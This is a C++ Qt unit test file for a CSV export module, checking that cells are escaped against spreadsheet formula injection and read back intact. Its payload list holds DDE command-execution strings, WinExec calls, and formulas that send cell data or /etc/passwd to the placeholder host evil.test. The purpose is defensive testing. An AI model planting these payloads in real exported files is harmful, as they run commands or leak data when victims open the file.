// SPDX-License-Identifier: GPL-3.0-or-later
#include "core/csvtext.h"

#include <QRandomGenerator>
#include <QTest>

#include <array>
#include <limits>

using namespace bulkhead;
using namespace Qt::StringLiterals;

namespace {

//! What spreadsheets run, or have run, when a file is opened in them; each a cell of its own.
const QStringList &payloads()
{
    static const QStringList all{
        u"=1+1"_s, u"+1+1"_s, u"-1+1"_s, u"@SUM(A1:A9)"_s, u"=cmd|' /C calc'!A0"_s, u"+cmd|' /C calc'!A0"_s, u"-cmd|' /C calc'!A0"_s, u"@cmd|' /C calc'!A0"_s,
        u"=2+5+cmd|' /C calc'!A0"_s, u"=cmd|'/c powershell -e AAAA'!_xlbgnm.A1"_s, u"=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''"_s,
        u"=rundll32|'URL.dll,OpenURL calc.exe'!A"_s, u"=DDE(\"cmd\";\"/C calc\";\"1\")"_s, u"=DDE(\"cmd\",\"/C calc\",\"1\")"_s, u"@DDE(\"cmd\";\"/C calc\";\"1\")"_s,
        u"=HYPERLINK(\"http://evil.test/?x=\"&A1,\"Click\")"_s, u"=HYPERLINK(\"http://evil.test/?x=\"&A1;\"Click\")"_s, u"+HYPERLINK(\"http://evil.test\")"_s,
        u"-HYPERLINK(\"http://evil.test\")"_s, u"=WEBSERVICE(\"http://evil.test/\"&A1)"_s, u"=IMPORTXML(\"http://evil.test\",\"//a\")"_s,
        u"=IMPORTXML(CONCAT(\"http://evil.test/?\",A1),\"//a\")"_s, u"=IMPORTFEED(\"http://evil.test\")"_s, u"=IMPORTHTML(\"http://evil.test\",\"table\",1)"_s,
        u"=IMPORTRANGE(\"key\",\"A1\")"_s, u"=IMAGE(\"http://evil.test/x.png\")"_s, u"=IMPORTDATA(\"http://evil.test\")"_s, u"='file:///etc/passwd'#$passwd.A1"_s,
        u"=WEBSERVICE(CONCATENATE(\"http://evil.test/\",('file:///etc/passwd'#$passwd.A1)))"_s, u"=FILTERXML(\"<a/>\",\"//a\")"_s, u"=CALL(\"Kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)"_s,
        u"=EXEC(\"calc\")"_s, u"=REGISTER.ID(\"Kernel32\",\"WinExec\")"_s, u"=SUM(1+1)*cmd|' /C calc'!A0"_s, u"=10+20+cmd|' /C calc'!A0"_s, u"=AAAA+BBBB-CCCC&\"Hello\"/12345&cmd|'/c calc.exe'!A"_s,
        u"=cmd|'/c calc.exe'!A*cmd|'/c calc.exe'!A"_s, u"+thespanishinquisition(cmd|'/c calc.exe'!A"_s, u"=         cmd|'/c calc.exe'!A"_s, u"=IF(1,cmd|'/c calc'!A0,0)"_s,
        u"=\"a\"&cmd|'/c calc'!A0"_s, u"={1,2}"_s, u"=A1"_s, u"=$A$1"_s, u"=[book.xls]Sheet1!A1"_s, u"='\\\\evil.test\\share\\[x.xls]S'!A1"_s, u"==1"_s, u"=-1"_s, u"=+1"_s, u"=@A1"_s,
        u"--1"_s, u"-A1"_s, u"-(1)"_s, u"-1e"_s, u"-1.5.5"_s, u"-.5"_s, u"-1 "_s, u"-1\n=1"_s, u"-inf"_s, u"-nan"_s, u"+49123"_s, u"++1"_s, u"+A1"_s, u"@A1"_s, u"@@"_s,
        u"\t=1+1"_s, u"\r=1+1"_s, u"\n=1+1"_s, u"\r\n=1+1"_s, u"\t"_s, u"\rtext"_s, u"\t@SUM(1)"_s, QString(QChar(0)) + u"=1+1", QString(QChar(0)), u"\uFF1D1+1"_s, u"\uFF0B1+1"_s,
        u"\uFF0D1+1"_s, u"\uFF20SUM(1)"_s, u" =1+1"_s, u"  -A1"_s, u"\u00A0=1+1"_s, u"\u3000=1+1"_s, u"\u200B=1+1"_s, u"\uFEFF=1+1"_s, u" \u00A0+A1"_s, u"'=1+1"_s, u"''@A1"_s,
        u"\"=1+1"_s, u"a;\"=1+1\""_s, u"a;\"\"@A1"_s, u"a;'\"+A1"_s, u"a\n\" -A1"_s, u"a\";=1+1"_s, u"a;=1+1"_s, u"a;+A1"_s, u"a;'=1"_s, u"a\t=1+1"_s, u"a\n=1+1"_s, u"a\r\n@A1"_s, u"a; -A1"_s, u"a;\uFF1D1"_s, u"x;=cmd|' /C calc'!A0;y"_s,
        u"=\"\"\"&cmd|' /C calc'!A0"_s, u"=\u202Ecmd"_s, u"%0A-1+1|cmd"_s.mid(3), u"|=cmd"_s.mid(1)};
    return all;
}

//! Whether a reader with any of the usual separators finds a cell that begins with a sign, looked at without any of the program's own rules.
bool hasFormula(const QString &cell)
{
    static const QRegularExpression bad(u"(^|[;\\t\\n\\r])[ \"\\x{A0}\\x{3000}\\x{200B}\\x{FEFF}]*[=+\\-@\\x{FF1D}\\x{FF0B}\\x{FF0D}\\x{FF20}]"_s);
    static const QRegularExpression control(u"^[\\t\\r\\n\\x{0}]"_s);
    return bad.match(cell).hasMatch() || control.match(cell).hasMatch();
}

//! Qt takes a byte order mark at the beginning for none of the text.
QString shown(const std::string &utf8)
{
    return QString::fromStdString('|' + utf8).mid(1);
}

QString randomText(QRandomGenerator &dice)
{
    static const QString letters = u"aZ9 '\"=+-@.;,|\t\r\n\u00A0\u3000\u200B\uFEFF\uFF1D\uFF0B\uFF0D\uFF20e\u00E4\u202E\U0001F600"_s + QChar(0);
    QString text;
    for (int i = int(dice.bounded(9)); i > 0; --i)
        text += letters[dice.bounded(letters.size())];
    return shown(text.toStdString()); // no half surrogates
}

} // namespace

//! Cells of comma-separated values: harmless in a spreadsheet, and read back as they were.
class TestCsvText : public QObject
{
    Q_OBJECT
private slots:
    void neutral_ofEachPayload_isNoFormula();
    void neutral_ofEachPayload_isReadBack();
    void neutral_ofPlainText_isTheSame_data();
    void neutral_ofPlainText_isTheSame();
    void neutral_ofRandomText_isNoFormulaAndReadBack();
    void number_ofAnySize_isExact_data();
    void number_ofAnySize_isExact();
    void text_withQuotes_doublesThem();
    void text_putInPlaceBefore_isClosedTheSame();
    void line_ofCells_endsWithCrLf();
};

void TestCsvText::neutral_ofEachPayload_isNoFormula()
{
    QVERIFY(payloads().size() >= 80);
    QCOMPARE(QSet<QString>(payloads().begin(), payloads().end()).size(), payloads().size());
    for (const QString &payload : payloads()) {
        const QString neutral = shown(csvNeutral(payload.toStdString()));
        QVERIFY2(!hasFormula(neutral), qPrintable(neutral));
        QVERIFY2(neutral != payload, qPrintable(payload));
    }
}

void TestCsvText::neutral_ofEachPayload_isReadBack()
{
    for (const QString &payload : payloads())
        QCOMPARE(shown(csvOriginal(csvNeutral(payload.toStdString()))), payload);
}

void TestCsvText::neutral_ofPlainText_isTheSame_data()
{
    QTest::addColumn<QString>("text");
    for (const QString &text : {u""_s, u"orders"_s, u"-1.5"_s, u"-5"_s, u"-2e-7"_s, u"0"_s, u"1+1"_s, u"a=b"_s, u"O'Hara"_s, u"'quoted'"_s, u"'"_s, u"a; b"_s, u"a;b"_s, u"x\ny"_s, u"mail@bank.example"_s, u"\u00E4-\u00F6"_s, u"'-1.5"_s, u" text"_s, u"2026-11-23T09:41:00Z"_s})
        QTest::newRow(qPrintable(text.toHtmlEscaped())) << text;
}

void TestCsvText::neutral_ofPlainText_isTheSame()
{
    QFETCH(QString, text);
    QCOMPARE(shown(csvNeutral(text.toStdString())), text);
    QCOMPARE(shown(csvOriginal(text.toStdString())), text);
}

void TestCsvText::neutral_ofRandomText_isNoFormulaAndReadBack()
{
    static const QRegularExpression number(u"^-\\d+(\\.\\d+)?([eE][+-]?\\d+)?$"_s);
    QRandomGenerator dice(20261130);
    const int cases = qEnvironmentVariableIsSet("BULKHEAD_FULL") ? 1'000'000 : 50'000;
    for (int i = 0; i < cases; ++i) {
        const QString text = randomText(dice);
        const QString neutral = shown(csvNeutral(text.toStdString()));
        QCOMPARE(shown(csvOriginal(neutral.toStdString())), text);
        QVERIFY2(!hasFormula(neutral) || number.match(neutral).hasMatch(), qPrintable(neutral));
    }
}

void TestCsvText::number_ofAnySize_isExact_data()
{
    QTest::addColumn<double>("number");
    for (const double number : {-1.5, 0.1, 1e300, -2.5e-300, 3.0, 1.0 / 3, std::numeric_limits<double>::denorm_min(), std::numeric_limits<double>::max()})
        QTest::newRow(qPrintable(QString::number(number))) << number;
}

void TestCsvText::number_ofAnySize_isExact()
{
    QFETCH(double, number);
    std::string out;
    appendCsvNumber(out, number);
    QCOMPARE(QString::fromStdString(out).toDouble(), number);
    QCOMPARE(csvNeutral(out), out);
    std::string minusOneAndAHalf, least;
    appendCsvNumber(minusOneAndAHalf, -1.5);
    QCOMPARE(minusOneAndAHalf, std::string("-1.5"));
    appendCsvNumber(least, std::numeric_limits<std::int64_t>::min());
    QCOMPARE(least, std::string("-9223372036854775808"));
}

void TestCsvText::text_withQuotes_doublesThem()
{
    std::string out;
    appendCsvText(out, "a\"b,\"\"c");
    QCOMPARE(out, std::string("\"a\"\"b,\"\"\"\"c\""));
}

void TestCsvText::text_putInPlaceBefore_isClosedTheSame()
{
    QStringList texts = payloads() + QStringList{QString(), u"plain"_s, u"plain and longer than a word"_s};
    QRandomGenerator dice(20261130);
    for (int i = 0; i < 2'000; ++i)
        texts.append(randomText(dice));
    for (const QString &text : std::as_const(texts)) {
        const std::string utf8 = text.toStdString();
        std::string memory(csvTextRoom(utf8.size()), '?'), expected;
        std::copy(utf8.begin(), utf8.end(), memory.begin() + 1);
        memory.resize(static_cast<std::size_t>(closeCsvText(memory.data(), utf8.size()) - memory.data()));
        appendCsvText(expected, utf8);
        QCOMPARE(memory, expected);
    }
}

void TestCsvText::line_ofCells_endsWithCrLf()
{
    QCOMPARE(csvLine({u"a"_s, u""_s, u"=1"_s}), u"\"a\",,\"'=1\"\r\n"_s);
    QCOMPARE(csvLine({u""_s, u"b"_s}), u",\"b\"\r\n"_s);
    QCOMPARE(csvLine({}), u"\r\n"_s);
}

QTEST_GUILESS_MAIN(TestCsvText)
#include "tst_csvtext.moc"
